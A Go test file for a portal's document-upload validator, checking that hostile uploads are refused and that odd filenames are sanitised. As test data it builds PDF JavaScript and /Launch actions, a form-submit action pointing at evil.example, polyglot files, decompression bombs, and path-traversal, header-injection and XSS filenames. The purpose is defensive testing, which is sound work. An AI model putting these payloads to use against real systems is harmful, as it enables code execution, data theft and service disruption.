package evidence_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"guichet/portal"
	"guichet/portal/audit"
	"guichet/portal/evidence"
	. "guichet/portal/evidence/evidencetest"
	"guichet/portal/store"
	"guichet/portal/store/storetest"
	"guichet/web/locales"

	"github.com/johnfercher/maroto/v2"
	"github.com/johnfercher/maroto/v2/pkg/components/text"
	"github.com/johnfercher/maroto/v2/pkg/config"
	"github.com/johnfercher/maroto/v2/pkg/consts/protection"
	"github.com/stretchr/testify/require"
)

// sandbox is shared: what it runs is made ready once in this test program.
var sandbox = &evidence.Sandbox{Interpreted: true}

var (
	partner = audit.Entry{Actor: portal.Actor{Kind: portal.Partner, ID: "anna"}, Channel: "web"}
	officer = audit.Entry{Actor: portal.Actor{Kind: portal.Staff, ID: "otto"}, Channel: "desk"}
)

const subject = "mandate:m1"

type house struct {
	*evidence.Service
	store *store.Store
	dsn   string
	now   time.Time
}

func open(t *testing.T, b storetest.Backend) *house {
	h := &house{dsn: b.DSN(t), now: time.Now().Truncate(time.Second).UTC()}
	clock := func() time.Time { return h.now }
	h.store = storetest.Reopen(t, h.dsn, clock)
	h.Service = &evidence.Service{Clock: clock, Runner: h.store, Store: h.store, Sandbox: sandbox}
	return h
}

func (h *house) take(t *testing.T, name string, content []byte) (evidence.File, error) {
	t.Helper()
	h.now = h.now.Add(time.Second)
	return h.Take(t.Context(), partner, evidence.Upload{Subject: subject, Name: name, Body: bytes.NewReader(content)})
}

func (h *house) told(t *testing.T, action audit.Action) int64 {
	t.Helper()
	return storetest.Number(t, h.dsn, `SELECT COUNT(*) FROM trail WHERE action = $1`, string(action))
}

func grey(width, height int) image.Image {
	img := image.NewGray(image.Rect(0, 0, width, height))
	img.Set(width/2, height/2, color.White)
	return img
}

func jpegOf(t *testing.T, img image.Image) []byte {
	var b bytes.Buffer
	require.NoError(t, jpeg.Encode(&b, img, nil))
	return b.Bytes()
}

func pngOf(t *testing.T, img image.Image) []byte {
	var b bytes.Buffer
	require.NoError(t, png.Encode(&b, img))
	return b.Bytes()
}

func packed(text string) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write([]byte(text))
	w.Close()
	return b.Bytes()
}

// archive is a whole empty ZIP.
const archive = "PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"

// printed is a document as web/letter makes them.
func printed(t *testing.T, how config.Builder) []byte {
	m := maroto.New(how.Build())
	m.AddRow(10, text.NewCol(12, "Mandat"))
	doc, err := m.Generate()
	require.NoError(t, err)
	return doc.GetBytes()
}

// bomb is a PNG of 30,000 by 30,000 pixels that is not much larger than its head.
func bomb(t *testing.T) []byte {
	b := pngOf(t, grey(1, 1))
	copy(b[16:24], "\x00\x00\x75\x30\x00\x00\x75\x30")
	crc := []byte{0, 0, 0, 0}
	sum := crc32.ChecksumIEEE(b[12:29])
	for i := range crc {
		crc[i] = byte(sum >> (24 - 8*i))
	}
	copy(b[29:33], crc)
	return b
}

// requireText demands a text for a key in every language.
func requireText(t *testing.T, key string) {
	t.Helper()
	for _, language := range portal.Languages {
		file, err := locales.Files.ReadFile(string(language) + "/evidence.json")
		require.NoError(t, err)
		require.Contains(t, string(file), `"error.`+key+`": "`)
	}
}

// T25, file by file: what is refused, each by a key of its own, leaving one
// line in the trail and no row.
func TestRefused(t *testing.T) {
	h := open(t, storetest.Backends(t)[0])
	script := "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
	hidden := "8 0 " + script
	good, photo, scan := Draft{}.Bytes(), jpegOf(t, grey(40, 30)), pngOf(t, grey(40, 30))
	cases := []struct {
		name, why string
		content   []byte
	}{
		{"nothing", "empty", nil},
		{"10 MiB and one byte", "size", append(bytes.Clone(good), make([]byte, evidence.MaxSize+1-len(good))...)},
		{"a page", "type", []byte("<!doctype html><html><script>alert(1)</script></html>")},
		{"a program", "type", []byte("\x7fELF\x02\x01\x01\x00 and more")},
		{"a ZIP", "polyglot", []byte(archive)},
		{"a GIF", "type", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")},
		{"a text that says it is a PDF", "damaged", []byte("%PDF-1.7\n%%EOF\n")},
		{"half a PDF", "damaged", good[:len(good)/2]},
		{"a PDF within a page", "polyglot", append([]byte("<html><body>"), good...)},
		{"a page in a PDF's head", "polyglot", bytes.Replace(good, []byte("\n%"), []byte("\n%<ScRipt>alert(1)</script>\n%"), 1)},
		{"a PDF with an archive behind it", "polyglot", append(bytes.Clone(good), archive...)},
		{"a PDF with anything behind it", "polyglot", append(bytes.Clone(good), "MZ\x90\x00"...)},
		{"a JPEG with an archive behind it", "polyglot", append(bytes.Clone(photo), archive...)},
		{"a JPEG with a PDF behind it", "polyglot", append(bytes.Clone(photo), good...)},
		{"a JPEG with a page in its comment", "polyglot", append([]byte("\xff\xd8\xff\xfe\x00\x0a<script>"), photo[2:]...)},
		{"a JPEG with a PDF in its comment", "polyglot", append([]byte("\xff\xd8\xff\xfe\x00\x0a%PDF-1.7"), photo[2:]...)},
		{"a PNG with a program behind it", "polyglot", append(bytes.Clone(scan), "MZ\x90\x00"...)},
		{"half a JPEG", "damaged", photo[:len(photo)/2]},
		{"half a PNG", "damaged", scan[:len(scan)/2]},
		{"a PNG of 900 million pixels", "pixels", bomb(t)},
		{"a JPEG of which the picture is gone", "damaged", append(bytes.Clone(photo[:len(photo)-40]), 0xff, 0xd9)},

		{"a script when it opens", "script", Draft{Catalog: "/OpenAction " + script}.Bytes()},
		{"a script elsewhere when it opens", "script", Draft{Catalog: "/OpenAction 4 0 R", Objects: []string{"<< /S /GoTo /D [5 0 R /Fit] >>"}}.Bytes()},
		{"a named script", "script", Draft{Catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", Objects: []string{script}}.Bytes()},
		{"a script under another spelling", "script", Draft{Objects: []string{strings.NewReplacer("/JavaScript", "/J#61va#53cript", "/JS", "/#4a#53").Replace(script)}}.Bytes()},
		{"a script whose name is spelt otherwise in a stream", "script", Draft{Objects: []string{Stream("", []byte("<< /S /J#61va#53cript >>"))}}.Bytes()},
		{"a script in a packed object", "script", Draft{Objects: []string{Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed(hidden))}}.Bytes()},
		{"a script in an object packed twice", "damaged", Draft{Objects: []string{Stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", packed(string(packed(hidden))))}}.Bytes()},
		{"a script in an object packed in another way", "damaged", Draft{Objects: []string{Stream("/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", []byte(hex.EncodeToString([]byte(hidden))))}}.Bytes()},
		{"a script in a stream of a kind told elsewhere", "damaged", Draft{Objects: []string{Stream("/Type 5 0 R /Filter /FlateDecode", packed("x")), "/ObjStm"}}.Bytes()},
		{"a script inside a plain stream", "script", Draft{Objects: []string{Stream("", []byte("7 0 obj "+script+" endobj"))}}.Bytes()},
		{"a script when a page opens", "script", Draft{Page: "/AA << /O << /S /Named /N /NextPage >> >>"}.Bytes()},
		{"a program that is started", "script", Draft{Page: "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>]"}.Bytes()},
		{"a form that is sent", "script", Draft{Page: "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>]"}.Bytes()},
		{"a form of its own", "script", Draft{Catalog: "/AcroForm << /XFA 4 0 R >>", Objects: []string{Stream("", []byte("<xdp/>"))}}.Bytes()},
		{"an embedded file", "embedded", Draft{Catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", Objects: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", Stream("/Type /EmbeddedFile", []byte("MZ"))}}.Bytes()},
		{"an attachment of a page", "embedded", Draft{Page: "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]", Objects: []string{"<< /F (a) >>"}}.Bytes()},
		{"an encrypted document", "encrypted", printed(t, config.NewBuilder().WithProtection(protection.Print, "", "owner"))},
		{"a stream that unpacks to 65 MiB", "heavy", Draft{Objects: []string{Stream("/Filter /FlateDecode", packed(strings.Repeat(" ", 65<<20)))}}.Bytes()},
		{"more pages than are looked at", "pages", Draft{Pages: 251}.Bytes()},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := h.told(t, audit.EvidenceRefused)
			f, err := h.take(t, "contrat.pdf", c.content)
			var ours *portal.Error
			require.ErrorAs(t, err, &ours)
			require.Equal(t, portal.Invalid, ours.Code, err)
			require.Equal(t, "evidence."+c.why, ours.Key, err)
			require.Equal(t, "document", ours.Field)
			requireText(t, ours.Key)
			require.Zero(t, f)
			require.Equal(t, before+1, h.told(t, audit.EvidenceRefused), "one line each")
		})
	}
	require.Zero(t, h.told(t, audit.EvidenceReceived))
	require.Zero(t, storetest.Number(t, h.dsn, `SELECT COUNT(*) FROM evidence`))
	require.Zero(t, storetest.Number(t, h.dsn, `SELECT COUNT(*) FROM evidence_content`))

	_, err := h.Take(t.Context(), partner, evidence.Upload{Subject: subject, Body: io.MultiReader(bytes.NewReader(good), iotest.ErrReader(errors.New("cut off")))})
	require.ErrorContains(t, err, "evidence.broken", "half an upload is none")
	gone, leave := context.WithCancel(t.Context())
	leave()
	_, err = h.Take(gone, partner, evidence.Upload{Subject: subject, Body: bytes.NewReader(good)})
	require.Equal(t, portal.Unavailable, portal.CodeOf(err), "whoever left is not told that the file is at fault")
}

// endless fails the test that reads more of it than a file may have.
type endless struct{ read int }

func (e *endless) Read(p []byte) (int, error) {
	e.read += len(p)
	return len(p), nil
}

func TestAnEndlessBodyIsNotRead(t *testing.T) {
	h := open(t, storetest.Backends(t)[0])
	body := &endless{}
	_, err := h.Take(t.Context(), partner, evidence.Upload{Subject: subject, Body: body})
	require.ErrorContains(t, err, "evidence.size")
	require.Less(t, body.read, 2*evidence.MaxSize+1<<20, "read in growing pieces, the last one bounded")
}

// What is taken: bytes as they came, sealed, under a label that can do nothing.
func TestTaken(t *testing.T) {
	h := open(t, storetest.Backends(t)[0])
	for _, c := range []struct {
		name, label string
		is          evidence.Type
		content     []byte
	}{
		{"mandat Dupont.pdf", "mandat Dupont.pdf", evidence.PDF, Draft{Catalog: "/OpenAction [7 0 R /Fit]", Objects: []string{"<< /S /URI /URI (https://operator.example) >>", "<< >>", "<< >>"}}.Bytes()},
		{"mandat.pdf", "mandat.pdf", evidence.PDF, printed(t, config.NewBuilder())},
		{"../../etc/passwd", "passwd", evidence.PNG, pngOf(t, grey(3, 2))},
		{`C:\temp\..\Mandat.JPG`, "Mandat.JPG", evidence.JPEG, jpegOf(t, grey(3, 2))},
		{"\u202efdp.exe\x00\r\nSet-Cookie: a=b", "_fdp.exe_ Set-Cookie_ a=b", evidence.PNG, pngOf(t, grey(2, 2))},
		{`<img src=x onerror="alert(1)">.png`, "_img src=x onerror=_alert(1)__.png", evidence.PNG, pngOf(t, grey(2, 3))},
		{"..", "document", evidence.PNG, pngOf(t, grey(4, 3))},
		{"é" + strings.Repeat("x", 300) + ".pdf", "é" + strings.Repeat("x", 88) + "…xxxxxx.pdf", evidence.PNG, pngOf(t, grey(4, 4))},
		{"\xff\xfe.png", "_.png", evidence.PNG, pngOf(t, grey(5, 4))},
	} {
		t.Run(fmt.Sprintf("%.12q", c.name), func(t *testing.T) {
			f, err := h.take(t, c.name, c.content)
			require.NoError(t, err)
			require.Equal(t, c.label, f.Name)
			require.Equal(t, c.is, f.Type)
			require.Equal(t, evidence.Quarantined, f.Status)
			content, err := h.store.EvidenceContent(t.Context(), f.ID)
			require.NoError(t, err)
			require.Equal(t, c.content, content)
			require.Zero(t, storetest.Number(t, h.dsn, `SELECT COUNT(*) FROM evidence_content WHERE evidence_id = $1 AND sealed = $2`, f.ID, c.content), "sealed")
		})
	}
}
